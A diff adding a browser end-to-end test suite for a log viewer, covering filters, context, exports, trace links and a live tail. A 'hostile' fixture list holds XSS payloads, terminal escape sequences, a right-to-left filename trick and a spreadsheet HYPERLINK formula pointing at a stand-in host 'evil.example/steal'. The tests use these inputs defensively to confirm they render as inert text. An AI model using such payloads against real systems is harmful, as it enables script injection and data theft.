@@ -1,0 +1,277 @@
+/** Logs in a real browser: hostile lines, filters by click, context, links, export, and the live tail across a restart. */
+import { type ChildProcess, spawn } from 'node:child_process'
+import { join } from 'node:path'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { openBrowser } from '../open-browser.ts'
+import { type Hydrant, root, startHydrant, until } from '../start-hydrant.ts'
+import { setUp } from './ada.ts'
+import { hydrated } from './hydrated.ts'
+import { postEnvelope } from './post-envelope.ts'
+import { hexId, recipientOf, sendSpans } from './trace-scenes.ts'
+
+let hydrant: Hydrant
+let browser: Browser
+let page: Page
+let dsn = ''
+const faults: string[] = []
+const elsewhere: string[] = []
+const traceId = 'a'.repeat(32)
+const beganAt = Date.now() - 60_000
+
+type Line = {
+  body: unknown
+  level?: string
+  attributes?: Record<string, unknown>
+  at?: number
+  traceId?: string
+  spanId?: string
+}
+
+const hostile = [
+  '<img src=x onerror=alert(1)> <script>alert(2)</script>',
+  'escape \u001b[2J\u001b[31mred \u0007bell',
+  'reversed \u202egnp.exe',
+  '=HYPERLINK("http://evil.example/steal")',
+  `long ${'x'.repeat(1_000_000)}`,
+  '',
+]
+
+beforeAll(async () => {
+  hydrant = await startHydrant()
+  browser = await openBrowser()
+  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } })
+  page = await context.newPage()
+  page.on('pageerror', error => void faults.push(error.message))
+  page.on('dialog', dialog => {
+    faults.push(`dialog: ${dialog.message()}`)
+    void dialog.dismiss()
+  })
+  page.on('request', request => void (request.url().startsWith(hydrant.url) || elsewhere.push(request.url())))
+  await setUp(page, hydrant)
+  ;({ dsn } = await hydrant.init('--org', 'acme', '--project', 'web'))
+  await send(
+    hostile.map((body, index) => ({ body, at: beganAt - index, level: 'warn', attributes: { kind: 'hostile' } })),
+  )
+  await send(
+    Array.from({ length: 300 }, (_, index) => ({
+      body: `cart ${index} locked`,
+      at: beganAt - 100_000 - index * 10,
+      attributes: { plan: index % 3 === 0 ? 'gold' : 'free', 'server.address': 'web-1' },
+    })),
+  )
+  const span = { id: 1, name: 'GET /orders', op: 'http.server', startMs: 0, durationMs: 400, isSegment: true }
+  await sendSpans(recipientOf(dsn), { traceId, beganAt, spans: [span] })
+  await send([{ body: 'stock refused the order', level: 'error', at: beganAt + 100, traceId, spanId: hexId(1) }])
+  await postEnvelope(dsn, {
+    timestamp: (beganAt + 120) / 1_000,
+    exception: { values: [{ type: 'OrderError', value: 'no stock' }] },
+    contexts: { trace: { trace_id: traceId, span_id: hexId(1) } },
+  })
+  await hydrant.drained()
+})
+
+afterAll(async () => {
+  await browser?.close()
+  await hydrant?.stop()
+})
+
+/** As an SDK sends its buffer: resolves when the lines are acknowledged. */
+async function send(lines: Line[]): Promise<void> {
+  const { origin, username, pathname } = new URL(dsn)
+  const items = lines.map(({ body, level = 'info', attributes = {}, at = Date.now(), traceId: trace, spanId }) => ({
+    timestamp: at / 1_000,
+    level,
+    body,
+    trace_id: trace ?? 'f'.repeat(32),
+    ...(spanId ? { span_id: spanId } : {}),
+    attributes: Object.fromEntries(
+      Object.entries(attributes).map(([name, value]) => [
+        name,
+        { value, type: typeof value === 'number' ? 'integer' : 'string' },
+      ]),
+    ),
+  }))
+  const head = { type: 'log', item_count: items.length, content_type: 'application/vnd.sentry.items.log+json' }
+  const body = ['{}', JSON.stringify(head), JSON.stringify({ version: 2, items })].join('\n')
+  await until(async () => {
+    const url = `${origin}/api${pathname}/envelope/?sentry_key=${username}`
+    const response = await fetch(url, { method: 'POST', body }).catch(() => null)
+    return response?.status === 200
+  })
+}
+
+const open = async (path: string): Promise<void> => {
+  await page.goto(hydrant.url + path)
+  await hydrated(page)
+}
+const list = () => page.getByRole('list', { name: 'Log lines' })
+const rows = () => list().getByRole('button', { expanded: false })
+const q = (search: string) => `/acme/logs?q=${encodeURIComponent(search)}`
+
+test('hostile lines are text: nothing runs, nothing is loaded from elsewhere, and hidden characters show', async () => {
+  await open(q('kind:hostile'))
+  await expect.poll(() => rows().count()).toBe(hostile.length)
+  const text = (await list().textContent()) ?? ''
+  expect(text).toContain('<img src=x onerror=alert(1)>')
+  expect(text).toContain('escape ⟨001B⟩[2J⟨001B⟩[31mred ⟨0007⟩bell')
+  expect(text).toContain('reversed ⟨202E⟩gnp.exe')
+  expect(text.length).toBeLessThan(10_000)
+  for (const name of [/onerror/, /long x/]) {
+    await list().getByRole('button', { name }).click()
+    await page.getByRole('heading', { name: 'In context' }).last().waitFor()
+  }
+  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(1440)
+  expect([faults, elsewhere]).toEqual([[], []])
+})
+
+test('an export has what the search finds, and no cell that a spreadsheet runs', async () => {
+  await open(q('kind:hostile'))
+  const read = async (format: string) => {
+    const response = await page.request.get(
+      `${hydrant.url}${q('kind:hostile')}`.replace('/logs?', `/logs/export?format=${format}&`),
+    )
+    expect(response.headers()['content-disposition']).toContain(`.${format}"`)
+    return response.text()
+  }
+  const csv = await read('csv')
+  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/steal"")"`)
+  const lines = (await read('ndjson'))
+    .trim()
+    .split('\n')
+    .map(line => JSON.parse(line))
+  expect(lines).toHaveLength(hostile.length)
+  expect(lines.map(({ message }) => message)).toContain(hostile[0])
+})
+
+test('a click on an attribute narrows the list, a facet widens it, and the address holds both', async () => {
+  await open(q('locked'))
+  await rows().first().click()
+  await page.getByRole('link', { name: 'Only lines with this plan' }).click()
+  await page.waitForURL(/plan/)
+  const first = new URL(page.url()).searchParams.get('q')
+  expect(first).toMatch(/^locked plan:(?:gold|free)$/)
+  await page.getByRole('complementary', { name: 'Filter by' }).getByRole('link', { name: /^info/ }).click()
+  await page.waitForURL(/level/)
+  expect(new URL(page.url()).searchParams.get('q')).toBe(`${first} level:info`)
+  await expect.poll(() => rows().count()).toBeGreaterThan(10)
+})
+
+test('more lines come as one scrolls, and only those near the screen are drawn', async () => {
+  await open(q('locked'))
+  await expect
+    .poll(async () => {
+      await page.mouse.wheel(0, 4_000)
+      return page.getByText('300 lines, newest first').count()
+    })
+    .toBe(1)
+  expect(await list().getByRole('listitem').count()).toBeLessThan(150)
+  await rows().last().focus()
+  await page.keyboard.press('ArrowUp')
+  await page.keyboard.press('Enter')
+  await page.getByRole('region', { name: 'Log line' }).waitFor()
+})
+
+test('without JavaScript the list has all lines of a page and a link to the next', async () => {
+  const plain = await browser.newContext({
+    javaScriptEnabled: false,
+    storageState: await page.context().storageState(),
+  })
+  const reader = await plain.newPage()
+  await reader.goto(hydrant.url + q('locked'))
+  expect(await reader.getByRole('list', { name: 'Log lines' }).getByRole('listitem').count()).toBe(100)
+  await reader.getByRole('link', { name: 'Older lines' }).click()
+  await reader.getByText('cart 100 locked').waitFor()
+  await plain.close()
+})
+
+test('a line in context has the lines of its host around it, whatever the search', async () => {
+  await open(q('"cart 150 locked"'))
+  await rows().first().click()
+  await page.getByRole('link', { name: 'View in context' }).click()
+  await page.waitForURL(/\/acme\/logs\/\d+-/)
+  const around = page.getByRole('list', { name: 'Lines around this line' })
+  await around.getByText('cart 149 locked').waitFor()
+  expect(await around.getByRole('listitem').count()).toBe(101)
+  expect(await around.locator('[aria-current]').textContent()).toContain('cart 150 locked')
+})
+
+test('a line leads to its trace and its issue, and both lead back', async () => {
+  await open(q('"stock refused"'))
+  await page.getByRole('link', { name: 'Trace aaaaaaaa' }).click()
+  await page.getByRole('treegrid').waitFor()
+  expect(await page.locator('.logmark.bad').count()).toBe(1)
+  await page.getByRole('link', { name: 'The log line of this trace' }).click()
+  await rows().first().click()
+  await page.getByRole('region', { name: 'Log line' }).getByRole('link', { name: 'WEB-1' }).click()
+  const lines = page.getByRole('list', { name: 'Log lines, oldest first' })
+  await lines.getByRole('link', { name: 'stock refused the order' }).click()
+  await page.waitForURL(/\/acme\/logs\/\d+-[0-9a-f]{32}/)
+})
+
+test('patterns fold lines that only differ in values, and one can be hidden', async () => {
+  await open('/acme/logs/patterns')
+  const carts = page.getByRole('row', { name: /cart <\*> locked/ })
+  expect(await carts.getByRole('cell').nth(3).textContent()).toBe('300')
+  await carts.getByRole('link', { name: /^Hide/ }).click()
+  await page.waitForURL(/patterns\?q=/)
+  await expect.poll(() => carts.count()).toBe(0)
+})
+
+test('the live tail shows each line once, across a restart of Hydrant, in the browser and in a terminal', async () => {
+  await open('/acme/logs?live=1&q=live')
+  await page.getByText('Live', { exact: true }).waitFor()
+  const terminal = startTail('--json', 'live')
+  await until(async () => {
+    await send([{ body: 'live probe' }])
+    return terminal.output().includes('live probe')
+  })
+  await send([{ body: 'live 1' }])
+  await page.getByText('live 1', { exact: true }).waitFor()
+  await send([{ body: 'live 2' }])
+  // Acknowledged, and perhaps not digested.
+  await hydrant.kill('SIGKILL')
+  await hydrant.start()
+  await send([{ body: 'live 3' }])
+  await page.getByText('live 3', { exact: true }).waitFor()
+  await send([{ body: 'live 4' }, { body: 'dead 4' }])
+  await page.getByText('live 4', { exact: true }).waitFor()
+  for (const name of ['live 1', 'live 2', 'live 3', 'live 4']) {
+    expect(await page.getByText(name, { exact: true }).count(), name).toBe(1)
+    await until(async () => terminal.output().includes(name))
+    expect(terminal.output().split(`"${name}"`), name).toHaveLength(2)
+  }
+  expect(await page.getByText('dead 4').count()).toBe(0)
+  await terminal.stop()
+})
+
+test('whoever reads is not disturbed: lines wait while text is selected', async () => {
+  await open('/acme/logs?live=1&q=calm')
+  await page.getByText('Live', { exact: true }).waitFor()
+  await send([{ body: 'calm 1' }])
+  await page.getByText('calm 1', { exact: true }).waitFor()
+  await page.getByText('calm 1', { exact: true }).selectText()
+  await send([{ body: 'calm 2' }])
+  await page.getByRole('button', { name: '1 new line' }).click()
+  await page.getByText('calm 2', { exact: true }).waitFor()
+  expect(faults).toEqual([])
+})
+
+function startTail(...args: string[]) {
+  const flags = ['--disable-warning=ExperimentalWarning', join(root, 'src/cli/hydrant.ts'), 'tail', ...args]
+  const child: ChildProcess = spawn(process.execPath, flags, {
+    cwd: root,
+    env: hydrant.env,
+    stdio: ['ignore', 'pipe', 'pipe'],
+  })
+  let words = ''
+  for (const stream of [child.stdout, child.stderr]) stream?.on('data', chunk => (words += chunk))
+  return {
+    output: () => words,
+    stop: () =>
+      new Promise<void>(resolve => {
+        child.once('exit', () => resolve())
+        child.kill('SIGINT')
+      }),
+  }
+}
